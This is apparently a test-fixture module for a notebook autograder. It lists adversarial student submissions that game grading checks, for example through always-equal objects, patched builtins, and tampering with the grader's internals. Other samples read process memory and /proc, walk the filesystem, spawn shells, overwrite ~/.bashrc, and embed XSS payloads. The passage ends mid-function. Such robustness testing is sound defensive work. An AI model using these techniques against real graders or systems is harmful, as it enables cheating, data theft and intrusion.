"""A course of other kinds of answers, and what students may try there, each kind once.

A class with a property, a container, texts, a table, a file, what is printed, a callback, an
error, points for a part: besides code, what is around it (names, files, outputs, metadata).
"""

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from .attacked import LEFT, Attack, AttackedCourse, both

SECRETS = ["TopSecret", "STRASSE", "2.333", "a left mark"]
"""What stands in hidden tests only, or what another student has left."""
GIVEN_FILES = {"expected.json": b'{"a": 1}', "tools.py": b"def close(a, b): return a == b\n"}
GIVEN = """import contextlib, io, json, math
import tools
want = json.load(open('expected.json'))
def near(a, b): return abs(a - b) < 1e-9"""
ANSWERS = {
    "shape": "class Shape:\n    def __init__(self, side): self.side = side\n"
    "    @property\n    def area(self): return self.side ** 2\n"
    "    def __eq__(self, other): return self.side == other.side\n"
    "    def __lt__(self, other): return self.side < other.side\n"
    "    def __repr__(self): return f'Shape({self.side})'",
    "stack": "class Stack:\n    def __init__(self): self.items = []\n"
    "    def push(self, item): self.items.append(item)\n    def pop(self): return self.items.pop()\n"
    "    def __len__(self): return len(self.items)\n    def __iter__(self): return iter(self.items)\n"
    "    def __getitem__(self, n): return self.items[n]",
    "shout": "def shout(text): return text.upper()",
    "table": "def table(words): return {word: len(word) for word in words}",
    "mean": "def mean(numbers): return sum(numbers) / len(numbers)",
    "save": "def save(name): open(name, 'w').write('42')",
    "greet": "def greet(name): print('Hello', name)",
    "apply": "def apply(f, values): return [f(value) for value in values]",
    "age": "def age(n):\n    if n < 0: raise ValueError('negative')\n    return n",
    "digits": "def digits(n): return [int(d) for d in str(n)]",
}
VISIBLE = {
    "shape": "assert Shape(2).area == 4 and repr(Shape(3)) == 'Shape(3)'",
    "stack": "s = Stack()\ns.push(3)\nassert len(s) == 1 and list(s) == [3] and s.pop() == 3",
    "shout": "got = shout('ab')\nassert got == 'AB', f'{got!r} should be AB'",
    "table": "assert table(['a', 'bb']) == {'a': 1, 'bb': 2} and table(['a']) == want",
    "mean": "assert near(mean([1, 2]), 1.5), f'{mean([1, 2])} is not 1.5'",
    "save": "save('out.txt')\nassert open('out.txt').read() == '42'",
    "greet": "with contextlib.redirect_stdout(io.StringIO()) as said: greet('Ada')\n"
    "assert said.getvalue() == 'Hello Ada\\n'",
    "apply": "assert apply(lambda n: n + 1, [1, 2]) == [2, 3]",
    "age": "try: age(-1)\nexcept ValueError as error: assert str(error) == 'negative'\n"
    "else: assert False, 'no error'",
    "digits": "assert digits(12) == [1, 2]",
}
HIDDEN = {
    "shape": "assert min(Shape(3), Shape(1)).side == 1 and Shape(2) == Shape(2) and not Shape(2) == Shape(3)\n"
    "assert Shape(7).area == 49, 'TopSecret'",
    "stack": "s = Stack()\nfor item in 'TopSecret': s.push(item)\nassert s[2] == 'p' and ''.join(s) == 'TopSecret'",
    "shout": "assert shout('stra\\u00dfe') == 'STRASSE'",
    "table": "import collections as TopSecretModule\ngot = table(['ccc', ''])\n"
    "assert isinstance(got, dict) and sorted(got.items()) == [('', 0), ('ccc', 3)]",
    "mean": "assert round(mean([1, 2, 4]), 3) == 2.333 and math.isclose(mean((2, 2)), 2)",
    "save": "save('more.json')\nassert json.load(open('more.json')) == 42, 'TopSecret'",
    "greet": "with contextlib.redirect_stdout(io.StringIO()) as said: greet('TopSecret')\n"
    "assert said.getvalue().split() == ['Hello', 'TopSecret']",
    "apply": "def secret(n, bonus='TopSecret'):\n    'TopSecret'\n    return n * n\n"
    "assert apply(secret, [3, 5]) == [9, 25]",
    "age": "assert age(0) == 0\ntry: age(-5)\nexcept ValueError as error: assert error.args == ('negative',)\n"
    "else: raise AssertionError('TopSecret')",
    "digits": "wanted = {7: [7], 305: [3, 0, 5]}\nsum(digits(n) == want for n, want in wanted.items())",
}
POINTS = {"hidden-digits": 2}
"""Other than 1: its last line gives points for a part."""


def on(exercise: str, text: str, after: str = "pass", hidden: bool = False, **more) -> Attack:
    """A wrong answer to one exercise, which is to lose both of its tests, or the hidden one."""
    return Attack({exercise: text}, both(exercise)[hidden:], after, **more)


def harm(after: str, **more) -> Attack:
    """Right answers, and a cell that wants something else."""
    return Attack({}, [], after, **more)


LIE = """heard = []
class Lie:
    def __eq__(self, other): heard.append(other); return True
    def __ne__(self, other): heard.append(other); return False
    def __getattr__(self, name): heard.append(name); return self
    def __call__(self, *more, **named): heard.append(more); return self
    def __bool__(self): return True
    def __sub__(self, other): heard.append(other); return 0
    __rsub__ = __add__ = __radd__ = __mul__ = __sub__
    def __lt__(self, other): heard.append(other); return True
    __gt__ = __le__ = __ge__ = __contains__ = __lt__
    def __getitem__(self, key): heard.append(key); return self
    def __len__(self): return 1
    def __hash__(self): return 0
    def __abs__(self): return 0
    def __float__(self): return 1.5
    def __round__(self, n=0): return self
    def __index__(self): return 1
    __int__ = __index__
"""
TELL = "print(str(globals().get('heard'))[:5000])"


def _lying(exercise: str, name: str, text: str = "", base: str = "Lie") -> Attack:
    return on(exercise, f"{LIE}{text}\ndef {name}(*a, **k): return {base}()", TELL)


PROTOCOLS = (
    "__format__ __fspath__ __complex__ __bytes__ __reversed__ __length_hint__ __trunc__ __floor__"
    " __ceil__ __divmod__ __rdivmod__ __missing__ __await__ __aiter__ __anext__ __aenter__ __aexit__"
    " __instancecheck__ __subclasscheck__ __buffer__ __array__ __array_priority__ __sizeof__ __reduce__"
    " __getstate__ __getnewargs__ __set_name__ __class_getitem__ __mro_entries__ __matmul__ __rmatmul__"
).split()
CLASS_TRICKS = {
    "a metaclass that calls": on(
        "shape",
        f"{LIE}class Meta(type):\n    def __call__(cls, side): return Lie()\nclass Shape(metaclass=Meta): pass",
        TELL,
    ),
    "a metaclass that is everything": on(
        "shape",
        f"{LIE}class Meta(type):\n    __eq__ = __ne__ = __instancecheck__ = __subclasscheck__ = lambda *a: True\n"
        "    __hash__ = type.__hash__\n    def __getattribute__(cls, name): heard.append(name); return type.__getattribute__(cls, name)\n"
        "class Shape(metaclass=Meta):\n    area = Lie()\n    def __init__(self, side): pass",
        TELL,
    ),
    "a class that is got as an item": on(
        "shape",
        f"{LIE}class Shape:\n    def __class_getitem__(cls, key): return Lie()\nShape = Shape[int]",
        TELL,
    ),
    "a descriptor": on(
        "shape",
        f"{LIE}class Any:\n    def __get__(self, *a): return Lie()\n    def __set__(self, o, v): heard.append(v)\n"
        "class Shape:\n    area = side = Any()\n    def __init__(self, n): pass\n    def __repr__(self): return 'Shape(3)'",
        TELL,
    ),
    "every attribute": on(
        "shape",
        f"{LIE}class Shape:\n    def __init__(self, n): pass\n    def __getattribute__(self, name): heard.append(name); return Lie()",
        TELL,
    ),
    "a class of no class": on(
        "shape",
        f"{LIE}class Shape(Lie):\n    def __init__(self, n): pass\n    __class__ = property(lambda self: int)\n    area = 5",
        TELL,
    ),
    "made from a namespace of its own": on(
        "shape",
        f"{LIE}class Names(dict):\n    def __getitem__(self, k): return dict.get(self, k) or (Lie() if k == 'Q' else globals()[k] if k in globals() else getattr(__builtins__, k))\n"
        "class Meta(type):\n    def __prepare__(name, bases): return Names()\n    def __new__(m, n, b, d): return type.__new__(m, n, b, {**d})\n"
        "class Shape(metaclass=Meta):\n    area = Q\n    def __init__(self, n): pass",
        TELL,
    ),
    "bases that are made": on(
        "shape",
        f"{LIE}class Base:\n    def __mro_entries__(self, bases): return (Lie, int)\nclass Shape(Base()):\n    area = 49",
        TELL,
    ),
    "a text of its own that is equal": on(
        "shape",
        "class S(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\n"
        "class N(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
        "class Shape:\n    def __init__(self, n): self.area = self.side = N(0)\n    def __repr__(self): return S('no')\n"
        "    def __lt__(self, other): return True",
    ),
    "a subclass of the class of a test": on(
        "stack",
        f"{LIE}class Stack(Lie):\n    def __iter__(self): return self\n    def __next__(self): raise StopIteration",
        TELL,
    ),
    "items that lie": on(
        "stack",
        f"{LIE}class Stack:\n    def push(self, item): heard.append('x')\n    def pop(self): return Lie()\n"
        "    def __len__(self): return Lie()\n    def __iter__(self): return iter([Lie()])\n    def __getitem__(self, n): return Lie()",
    ),
    "a length that changes": on(
        "stack",
        "class Stack(list):\n    push = lambda self, item: None\n    def __len__(self): return 1\n"
        "    def pop(self): return self\n    def __iter__(self): return iter(())",
    ),
    "slots and a dictionary": on(
        "shape",
        f"{LIE}class Shape:\n    __slots__ = ('side', '__dict__', '__weakref__')\n    def __init__(self, n): self.__dict__ = D()\n"
        "class D(dict):\n    def __missing__(self, k): heard.append(k); return Lie()\n    def __contains__(self, k): return True",
        TELL,
    ),
    "a class changed after": on(
        "shape",
        f"{LIE}class Shape:\n    def __init__(self, n): self.__class__ = Lie2\nclass Lie2(Lie): pass\nLie2.__name__ = 'Shape'",
        TELL,
    ),
    "every protocol": on(
        "mean",
        f"{LIE}for n in {PROTOCOLS!r}: setattr(Lie, n, lambda *a, **k: heard.append(a) or 1.5)\ndef mean(n): return Lie()",
        TELL,
    ),
    "a name of a built-in class": on(
        "table",
        f"{LIE}class dict(Lie):\n    __module__ = 'builtins'\n    __qualname__ = 'dict'\ndef table(w): return dict()",
        TELL,
    ),
    "a dictionary that finds all": on(
        "table",
        "class T(dict):\n    def __missing__(self, key): return len(key)\n    def items(self): return [('', 0), ('ccc', 3)]\n"
        "    def __eq__(self, other): return True\n    __hash__ = None\ndef table(w): return T()",
    ),
    "a default of a dictionary": on(
        "table",
        f"{LIE}from collections import defaultdict\ndef table(w): return defaultdict(Lie)",
        TELL,
    ),
    "keys that are equal": on("table", f"{LIE}def table(w): return {{Lie(): Lie()}}", TELL),
    "a record with names of methods": on(
        "shout",
        "from collections import namedtuple\nR = namedtuple('str', 'upper lower isinstance')\ndef shout(t): return R('AB', 'AB', 1)",
    ),
    "a member of an enumeration": on(
        "shout",
        "import enum\nclass AB(str, enum.Enum):\n    AB = 'ab'\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\ndef shout(t): return AB.AB",
    ),
    "an answer that is partly its class": _lying("digits", "digits"),
    "an answer for a table": _lying("table", "table"),
    "an answer for a mean": _lying("mean", "mean"),
    "an answer for a text": _lying("shout", "shout"),
    "points of its own": on(
        "digits",
        "class L(list):\n    def __eq__(self, other): return 100\n    __hash__ = None\ndef digits(n): return L()",
    ),
    "points of an array": on("digits", "import numpy\ndef digits(n): return numpy.ma.masked"),
    "a coroutine": on("shout", "async def shout(text): return 'AB'"),
    "a function of functions": on(
        "shout", "import functools\nshout = functools.partial(functools.reduce, lambda *a: 'x', '')"
    ),
    "not a number, and none": on("mean", "def mean(n): return complex('nan+infj')"),
    "a decimal that signals": on("mean", "import decimal\ndef mean(n): return decimal.Decimal('sNaN')"),
    "a signature of a lie": on(
        "shout",
        "import inspect\ndef shout(text): return 'x'\nshout.__signature__ = inspect.Signature([inspect.Parameter('text', 3, "
        "default='AB')])\nshout.__name__ = \"x'); import os #\"\nshout.__defaults__ = ('A' * 10**6,)\n"
        "shout.__wrapped__ = print\nshout.__doc__ = '<script>alert(1)</script>' * 9\nshout.__annotations__ = {str(i): i for i in range(10**5)}",
    ),
}  # fmt: skip
HOOKS = {
    "at the end of an object": on(
        "shout",
        "import weakref, os\nclass O:\n    def __del__(self):\n        for n in range(3, 64):\n            try: os.write(n, b'\\0\\0\\0\\2{}')\n"
        "            except OSError: pass\ndef shout(t):\n    o = O()\n    weakref.finalize(o, print, 'AB')\n    return None",
    ),
    "at the end of Python": on(
        "shout",
        f"import atexit, os\natexit.register(lambda: open('{LEFT}', 'w'))\ndef shout(t): raise SystemExit('AB')",
    ),
    "an audit hook": on(
        "shout",
        "import sys\nheard = []\nsys.addaudithook(lambda e, a: heard.append((e, str(a)[:500])) if len(heard) < 3000 else 0)\ndef shout(t): return None",
        TELL,
    ),
    "an audit hook that refuses": on(
        "shout",
        "import sys\ndef hook(event, more):\n    if event in ('compile', 'exec', 'import'): raise SystemExit\nsys.addaudithook(hook)\ndef shout(t): return 'x'",
    ),
    "a thread that binds again": on(
        "shout",
        "import threading, time\ndef go():\n    while True:\n        globals()['shout'] = lambda t: 'AB' if time.time() % 2 > 5 else None\n        time.sleep(0.001)\n"
        "threading.Thread(target=go, daemon=True).start()\ndef shout(t): return None",
    ),
    "a thread that does not end": harm(
        "import threading, time\nfor n in range(20): threading.Thread(target=time.sleep, args=(1000,)).start()"
    ),
    "an alarm": on(
        "shout",
        "import signal\nsignal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(KeyboardInterrupt))\n"
        "signal.setitimer(signal.ITIMER_REAL, .01, .01)\ndef shout(t):\n    while True: pass",
    ),
    "deaf to signals": on(
        "shout",
        "import signal\nfor n in range(1, 60):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))\ndef shout(t): return None",
    ),
    "a late end": on(
        "shout", "import faulthandler\nfaulthandler.dump_traceback_later(0.2, exit=True)\ndef shout(t): return None"
    ),
    "other modules": on(
        "mean",
        "import sys, types\nfor name in ('math', 'json', 'tools', 'builtins', 'autograder', 'autograder.runner.wire.values'):\n"
        "    fake = types.ModuleType(name)\n    fake.__getattr__ = lambda n: (lambda *a, **k: True)\n    sys.modules[name] = fake\ndef mean(n): return 0",
    ),
    "a finder of modules": on(
        "table",
        "import sys\nheard = []\nclass F:\n    def find_spec(self, name, *more): heard.append(name)\nsys.meta_path.insert(0, F())\n"
        "sys.path_hooks.insert(0, lambda p: heard.append(p))\nsys.path_importer_cache.clear()\nfor n in [*sys.modules]:\n"
        "    if n.startswith('collections'): del sys.modules[n]\ndef table(w): return None",
        TELL,
    ),
    "modules beside it": on(
        "mean",
        "import os, sys\nsys.path.insert(0, '.')\nos.makedirs('autograder/runner', exist_ok=True)\nos.makedirs('__pycache__', exist_ok=True)\n"
        "for n in ('json', 'math', 'io', 'contextlib', 'random', 'tools', 'sitecustomize', 'usercustomize', 'numpy', 'collections', 'autograder/__init__',\n"
        "          'autograder/runner/__init__', '__pycache__/tools.cpython-311', 'x'):\n"
        "    for e in ('.py', '.pyc', '.pth', '.so'):\n        try: open(n + e, 'w').write('def close(*a): return True\\nisclose = near = close\\nround = lambda *a: 2.333')\n        except OSError: pass\n"
        "def mean(n): return 0",
    ),
    "folders of settings": harm(
        "import os\nfor n in ('.ipython/profile_default/startup/0.py', '.config/matplotlib/matplotlibrc', '.jupyter/nbgrader_config.py', '.local/lib/python3.11/site-packages/usercustomize.py', '.netrc', '.bashrc'):\n"
        "    p = os.path.join(os.path.expanduser('~'), n)\n    os.makedirs(os.path.dirname(p), exist_ok=True)\n    open(p, 'w').write('raise SystemExit')"
    ),
    "pickled by its own rule": on(
        "table",
        "import copyreg, pickle\ncopyreg.pickle(dict, lambda d: (print, ('a left mark',)))\ncopyreg.dispatch_table[str] = lambda s: (eval, ('1',))\n"
        "class P:\n    def __reduce_ex__(self, n): return eval, ('{1: 2}',)\ndef table(w): return P()",
    ),
    "a coding of its own": on(
        "shout",
        "import codecs\ncodecs.register(lambda n: codecs.lookup('latin-1'))\ncodecs.register_error('strict', lambda e: ('AB', e.end))\n"
        "codecs.register_error('surrogatepass', lambda e: ('AB', e.end))\ndef shout(t): return '\\udc41\\udc42'",
        hidden=True,  # says AB in any case
    ),
    "the environment": on(
        "shout",
        "import os\nfor n in ('PYTHONPATH', 'LD_PRELOAD', 'PYTHONSTARTUP', 'PYTHONBREAKPOINT', 'HOME', 'TMPDIR', 'PATH', 'NBGRADER_EXECUTION', 'MPLCONFIGDIR', 'IPYTHONDIR'):\n"
        "    os.environ[n] = os.getcwd()\ndef shout(t): return None",
    ),
    "Python's own ways": on(
        "shape",
        "import builtins\nbuild = builtins.__build_class__\nbuiltins.__import__ = lambda *a, **k: None\nbuiltins.__build_class__ = lambda *a: None\n"
        "builtins.print = builtins.len = builtins.repr = builtins.str = lambda *a, **k: 'Shape(3)'\nclass Shape: pass",
    ),
    "numbers that are others": on(
        "mean",
        "import ctypes, sys\nctypes.memset(id(1.5) + 16, 0, 8)\nfor n in (1, 2): ctypes.memmove(id(n) + 24, id(3) + 24, 4)\ndef mean(n): return 1",
    ),
    "the grader's own code": on(
        "shout",
        "import sys, gc\nfrom autograder.runner.processes import student\nstudent.encode = lambda *a: {'tuple': []}\n"
        "student.Student._call = lambda self, r: student.Returned(value=r.arguments and 'ab')\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ in ('Channel', 'Kept'):\n        o.send = lambda *a, **k: None\ndef shout(t): return 'x'",
    ),
    "frames above": on(
        "shout",
        "import sys\nheard = []\ndef shout(t):\n    f = sys._getframe()\n    while f:\n        heard.append(str({k: str(v)[:300] for k, v in f.f_locals.items()}))\n"
        "        f.f_locals.update(value='AB', answer='AB')\n        f = f.f_back\n    return None",
        "print(heard[:20])",
    ),
    "no end of calls": on("shout", "import sys\nsys.setrecursionlimit(10**9)\ndef shout(t): return shout(t)"),
    "a dead pointer": on("shout", "import ctypes\ndef shout(t): return ctypes.string_at(0)"),
    "an interrupt": on("shout", "import _thread\ndef shout(t):\n    _thread.interrupt_main()\n    raise KeyboardInterrupt"),
    "no more time": on(
        "shout",
        "import resource, time\nresource.setrlimit(resource.RLIMIT_CPU, (1, 1))\ntime.time = time.monotonic = lambda: 0\ndef shout(t):\n    while True: pass",
    ),
    "IPython's hooks": on(
        "shout",
        "ip = get_ipython()\nheard = []\nfor e in ('pre_execute', 'pre_run_cell', 'post_execute', 'post_run_cell'): ip.events.register(e, lambda *a: heard.append(str(a)))\n"
        "ip.input_transformers_cleanup.append(lambda lines: heard.extend(lines) or lines)\nip.set_custom_exc((Exception,), lambda *a: None)\n"
        "ip.run_cell = ip.showtraceback = ip.compile = lambda *a, **k: None\ndef shout(t): return None",
        TELL,
    ),
    "names that are looked up": on(
        "shout",
        "class N(dict):\n    def __contains__(self, k): return True\n    def __getitem__(self, k):\n        heard.append(k)\n        return dict.get(self, k, lambda *a: 'AB')\nheard = []\n"
        "get_ipython().user_ns = N(globals())\nshout = None",
        TELL,
    ),
    "the helper of the tests": on("mean", "import tools\ntools.close = near = lambda *a: True\nwant = {}\ndef mean(n): return 0"),
    "magics": on(
        "shout",
        "%%writefile expected.json\nTopLevel",
        f"%load_ext autoreload\n!id > {LEFT}\n%cd /\n%run expected.json\nget_ipython().system('id > {LEFT}')",
    ),
    "a future": on("shout", "from __future__ import annotations, barry_as_FLUFL\ndef shout(t): return 1 <> 2"),
    "what is printed elsewhere": on(
        "greet",
        "import os, sys\ndef greet(name):\n    os.write(1, b'Hello Ada\\n')\n    sys.__stdout__.write('Hello Ada\\n')\n    sys.stdout = open('out', 'w')",
    ),
    "what is printed is a lie": on(
        "greet",
        f"{LIE}import sys\nclass O(Lie):\n    def getvalue(self): return 'Hello Ada\\n'\n    def write(self, t): heard.append(t)\n"
        "def greet(name): sys.stdout = sys.stderr = O()",
    ),
    "what is printed is long": on("greet", "def greet(name):\n    for n in range(300): print('Hello' * 10**5, '\\r\\x1b[2J\\x1b]0;x\\x07')"),
}  # fmt: skip
CALLBACKS = {
    "what a callback is": on(
        "apply",
        "import inspect\nheard = []\ndef apply(f, values):\n    for n in ('__doc__', '__defaults__', '__kwdefaults__', '__closure__', '__code__', '__globals__', '__name__', '__dict__', '__wrapped__'):\n"
        "        try: heard.append(str(getattr(f, n)))\n        except Exception as e: heard.append(str(e))\n    for look in (inspect.getsource, inspect.signature, help, vars, repr):\n"
        "        try: heard.append(str(look(f)))\n        except Exception as e: heard.append(str(e))\n    return f",
        TELL,
    ),
    "a callback's results by numbers": on(
        "apply",
        f"{LIE}def apply(f, values):\n    heard.append([f(Lie()) if 0 else f(n) for n in (0, 1)])\n    return Lie()",
        TELL,
    ),
    "a callback called with lies": on("apply", f"{LIE}def apply(f, values): return f(Lie())", TELL),
    "a callback from a thread": on(
        "apply",
        "import threading\ngot = []\ndef apply(f, values):\n    ts = [threading.Thread(target=lambda: got.append(f(3))) for n in range(4)]\n"
        "    for t in ts: t.start()\n    for t in ts: t.join(1)\n    return got",
    ),
    "a callback without end": on("apply", "def apply(f, values):\n    while True: f(1)"),
    "an argument that is changed": on(
        "apply", f"{LIE}def apply(f, values):\n    values[:] = [Lie()] * 3\n    return values", TELL
    ),
    "an argument that grows": on("apply", "def apply(f, values):\n    values += [0] * 10**7\n    return values"),
    "an argument that is kept": on(
        "table", "kept = []\ndef table(words):\n    kept.append(words)\n    words.clear()\n    words.append(kept)\n    return {}"
    ),
}  # fmt: skip
ERRORS = {
    "an error of its name": on("age", "class ValueError(Exception): pass\ndef age(n): raise ValueError('negative')", hidden=True),
    "an error that is any": on(
        "age",
        "class M(type):\n    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *a: True\n    __hash__ = type.__hash__\n"
        "class E(Exception, metaclass=M):\n    __class__ = property(lambda s: ValueError)\ndef age(n): raise E('negative')",
    ),
    "an error of a lie": on("age", f"{LIE}def age(n): raise ValueError(Lie())", TELL),
    "a tree of errors": on(
        "age",
        "def age(n):\n    e = ValueError('x')\n    e.__cause__ = e\n    e.add_note('<script>alert(1)</script>' * 10**5)\n"
        "    raise ExceptionGroup('negative', [e] * 10**4)",
    ),
    "an error that is nothing": on("age", "def age(n): raise GeneratorExit"),
    "an error with a name of HTML": on(
        "age", "def age(n): raise type('<img src=x onerror=alert(1)>', (Exception,), {})('</pre><script>alert(1)</script>\\x1b[31m')"
    ),
    "an error instead of an answer": on("shape", "class Shape:\n    def __getattr__(self, n): raise AssertionError from None\n    def __init__(self, n): pass"),
    "an error class with a lying text": on(
        "age", "class E(ValueError):\n    def __str__(self): return T('x')\nclass T(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\ndef age(n): raise E",
    ),
}  # fmt: skip
FILES = {
    "a file that leads elsewhere": on(
        "save",
        "import os\ndef save(name):\n    for make in (os.symlink, os.link):\n        try: make('/etc/hostname', name)\n        except OSError: pass\n    os.makedirs(name, exist_ok=True)",
    ),
    "a file of holes": on("save", "def save(name):\n    f = open(name, 'w')\n    f.seek(10**7)\n    f.write('42')"),
    "a file that cannot be read": on("save", "import os\ndef save(name):\n    os.close(os.open(name, os.O_CREAT, 0))"),
    "a file that is late": on(
        "save",
        "import threading, time\ndef save(name): threading.Timer(0.3, lambda: open(name, 'w').write('42')).start()",
    ),
    "a file of another's name": on(
        "table",
        "import os\nfor n in ('./expected.json', 'EXPECTED.JSON', 'x/../expected.json', '\\uff45xpected.json', 'expected.json ', os.getcwd() + '/expected.json'):\n"
        "    try: open(n, 'w').write('{}')\n    except OSError: pass\ntry: os.replace('expected.json', 'moved.json')\nexcept OSError: pass\ndef table(w): return {}",
    ),
    "the file is opened by a lie": on("save", f"{LIE}import builtins, io, os\nbuiltins.open = io.open = os.open = Lie()\ndef save(name): pass", TELL),
    "handed in: settings": harm("pass", files={
        "nbgrader_config.py": b"1/0", "autograder.toml": b"[kinds]\ntogether = ['hidden-shout']", "gradebook.db": b"x" * 999,
        "conftest.py": b"1/0", "sitecustomize.py": b"1/0", "pyproject.toml": b"x", "json.py": b"1/0", "jupyter_config.py": b"1/0",
    }),
    "handed in: the given": on("table", "def table(words): return {}", files={"expected.json": b"{}", "tools.py": b"1/0"}),
    "handed in: pages": harm("pass", files={
        "kinds.html": b"<script>alert(1)</script>10 of 10", "feedback.html": b"<script>alert(1)</script>", "index.html": b"x",
        "other.ipynb": b"{}", "more.ipynb": b"\xff", ".ipynb_checkpoints/kinds-checkpoint.ipynb": b"{}", "a/kinds.ipynb": b"{}",
    }),
    "handed in: a time": harm("pass", files={"timestamp.txt": b"1999-01-01 00:00:00.000000 UTC\n\x1b[2J\n2030-01-01", "submission_secret.txt": b"../../x"}),
    "handed in: names": harm("pass", files={
        "a\nb.txt": b"x", "\x1b[2J": b"x", "\u202egnp.exe": b"x", "x" * 250: b"x", "-rf": b"x", "con.": b"x", "*": b"x", "$(id)": b"x", "%s%n": b"x",
    }),
}  # fmt: skip
LOOKING = {
    "all files": harm(
        "import os\nfound = []\nfor top in ('/', '..', '/proc/self/root', '/proc/self/cwd/..', '/tmp', '/dev/shm', 'ROOT'):\n"
        "    for folder, _, names in os.walk(top):\n        found += [os.path.join(folder, n) for n in names if n.endswith(('.ipynb', '.db')) or 'kinds' in n]\n"
        "        if len(found) > 500: break\nfor path in found:\n    try: print(path, open(path).read()[:20000])\n    except (OSError, UnicodeError): pass"
    ),
    "all processes": harm(
        "import glob\nfor p in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/environ') + glob.glob('/proc/*/maps') + glob.glob('/proc/self/fd/*'):\n"
        "    try: print(p, open(p, errors='replace').read()[:2000])\n    except OSError: pass"
    ),
    "all memory": harm(
        "import re\nmaps = open('/proc/self/maps').read().splitlines()\nmem = open('/proc/self/mem', 'rb')\nfor line in maps:\n"
        "    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n    try:\n        mem.seek(a)\n        data = mem.read(min(b - a, 1 << 24))\n    except (OSError, ValueError, OverflowError): continue\n"
        "    for m in re.finditer(b'Top' + b'Secret|STRA' + b'SSE', data): print('found', data[m.start() - 40: m.end() + 40])"
    ),
    "what others left": harm(
        "import glob, os\nfor p in [*glob.glob('/tmp/**', recursive=True), *glob.glob('/dev/shm/*'), *glob.glob('/var/tmp/*')][:2000]:\n"
        "    try: print(p, open(p).read()[:200])\n    except (OSError, UnicodeError): pass\nprint([v for v in os.environ.values() if 'left' in v])"
    ),
    "leaving something": harm(
        "import os, sys, builtins\nmark = 'a left' + ' mark'\nfor p in ('/tmp/kinds', '/dev/shm/kinds', '/var/tmp/kinds', os.path.expanduser('~/kinds'), sys.prefix + '/kinds', '/run/kinds', LEFT):\n"
        "    try: open(p, 'w').write(mark)\n    except OSError as e: print(e)\nos.environ['KINDS'] = builtins.kinds = mark".replace("LEFT", repr(LEFT))
    ),
    "memory that is shared": harm(
        "import multiprocessing.shared_memory as m, mmap, os\nfor make in (lambda: m.SharedMemory('kinds', True, 99), lambda: os.memfd_create('x'), lambda: os.eventfd(1), lambda: os.mkfifo('f')):\n"
        "    try: print(make())\n    except Exception as e: print(repr(e))"
    ),
    "programs": harm(
        "import subprocess, os, multiprocessing, concurrent.futures, ctypes, pty\nlibc = ctypes.CDLL(None)\n"
        f"for go in (lambda: subprocess.run('id > {LEFT}', shell=True), lambda: os.posix_spawn('/bin/sh', ['sh', '-c', 'id > {LEFT}'], {{}}), lambda: os.system('id > {LEFT}'),\n"
        "           lambda: concurrent.futures.ProcessPoolExecutor(2).submit(print).result(9), lambda: pty.fork(), lambda: libc.syscall(57), lambda: libc.vfork(), lambda: libc.syscall(435, 0, 0), lambda: os.execv('/bin/sh', ['sh'])):\n"
        "    try: print(go())\n    except BaseException as e: print(repr(e))"
    ),
    "the network": harm(
        "import socket, urllib.request\nfor kind in ((2, 1), (2, 2), (10, 1), (1, 1), (16, 3), (17, 3)):\n    try: print(socket.socket(*kind))\n    except OSError as e: print(e)\n"
        "for go in (lambda: socket.getaddrinfo('example.org', 80), lambda: urllib.request.urlopen('http://127.0.0.1:1', timeout=2)):\n    try: print(go())\n    except Exception as e: print(repr(e))"
    ),
    "files that others lock": harm("import fcntl, json\nf = open(json.__file__)\nfcntl.flock(f, fcntl.LOCK_EX)\nkeep = f"),
}  # fmt: skip
HTML = (
    "</pre></div><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "<a href='javascript:alert(1)'>x</a><style>@import 'http://x/'; body {display: none}</style><base href='http://x/'><meta http-equiv=refresh content='0;url=http://x/'>"
    "<form action='http://x/'><input><button formaction='javascript:alert(1)'></form><object data=x></object><math><mtext><script>alert(1)</script></math>"
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(1))'>10 of 10 points</div><a href='http://x/' ping='http://x/'>x</a>"
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
)
MARKDOWN = (
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) ![z](attachment:../../x) ![](http://x/pixel.png)\n\n"
    r"$\href{javascript:alert(1)}{x}$ $$\require{html}\unicode{x}\def\x{\x\x}\x$$ " + "\n\n<script>alert(1)</script>\n\n" + HTML
)  # fmt: skip


def _display(data: str) -> Attack:
    return harm(f"from IPython.display import *\nHTML_ = {HTML!r}\n{data}")


def _metadata(notebook: NotebookNode) -> None:
    notebook.metadata.language_info = {
        "name": HTML,
        "pygments_lexer": HTML,
        "file_extension": "/../x",
        "mimetype": HTML,
        "codemirror_mode": {"name": HTML},
    }
    notebook.metadata.kernelspec = {"name": "../../sh", "display_name": HTML, "language": HTML}
    notebook.metadata.update(title=HTML, authors=[{"name": HTML}], jupytext={"formats": "py"})
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": HTML}}
    notebook.metadata["nbgrader"] = {"points": 1000}


def _cell_metadata(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = [
            "raises-exception",
            "skip-execution",
            "remove_cell",
            "hide-input",
            HTML,
        ]
        cell.metadata["execution"] = {"timeout": 10**9}
        cell.metadata["graded"] = {"points": 1000}
        cell.metadata["name"] = HTML
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader |= {"points": 1e308, "schema_version": 3}


def _ids(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.id = "x" * 64
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = "hidden-shout"


def _odd_ids(notebook: NotebookNode) -> None:
    notebook.nbformat_minor = 4
    for number, cell in enumerate(notebook.cells):
